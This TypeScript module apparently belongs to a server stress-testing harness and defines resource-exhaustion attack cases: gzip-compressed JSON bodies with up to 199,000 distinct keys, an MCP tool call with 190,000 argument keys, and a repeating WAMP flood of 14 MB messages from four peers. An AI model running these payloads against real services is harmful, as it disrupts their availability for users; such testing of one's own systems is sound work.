/** Bodies and messages of very many different keys: each new key costs many times what a value does. */
import { gzipSync } from 'node:zlib'
import { type Attack, toolName, turnOfOne } from './attack.ts'
import { posted, postOf } from './posted.ts'
import { pause } from './sockets.ts'
import { join } from './wamp-peers.ts'

/** The text of maps of different keys. */
const mapsOf = (maps: number, keys: number): string =>
  Array.from({ length: maps }, (_map, map) => {
    const members = Array.from({ length: keys }, (_key, key) => `"${map}k${key.toString(36)}":1`)
    return `{${members.join(',')}}`
  }).join(',')

export const keysOfBodies = posted(
  'keys-bodies',
  4,
  'a body of gzip with 199,000 keys in one map',
  ({ paths }) => postOf(paths.echo, gzipSync(mapsOf(1, 199_000)), ['Content-Encoding: gzip']),
)

export const keysOfLists = posted(
  'keys-lists',
  4,
  'a body of gzip with 1,900 maps of 100 keys, all different',
  ({ paths }) => postOf(paths.echo, gzipSync(`[${mapsOf(1900, 100)}]`), ['Content-Encoding: gzip']),
)

export const keysOfTools = posted(
  'keys-tools',
  4,
  'a call of a tool with arguments of 190,000 keys',
  ({ paths }) => {
    const params = `{"name":"${toolName}","arguments":${mapsOf(1, 190_000)}}`
    const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":${params}}`
    return postOf(paths.tools, Buffer.from(body), ['MCP-Protocol-Version: 2025-06-18'])
  },
)

export const keysOfMessages: Attack = {
  name: 'keys-messages',
  maxTurn: turnOfOne,
  about: '4 peers that each send a message of 14 MB with 1,400,000 keys, again each 2 s',
  async run(target, signal) {
    const message = `[16,1,{},"com.example.attack.keys",[${mapsOf(1, 1_400_000)}]]`
    while (!signal.aborted) {
      const peers = await Promise.all(Array.from({ length: 4 }, () => join(target)))
      for (const peer of peers) peer?.webSocket.send(message)
      await pause(2000, signal)
      for (const peer of peers) peer?.cut()
    }
  },
}
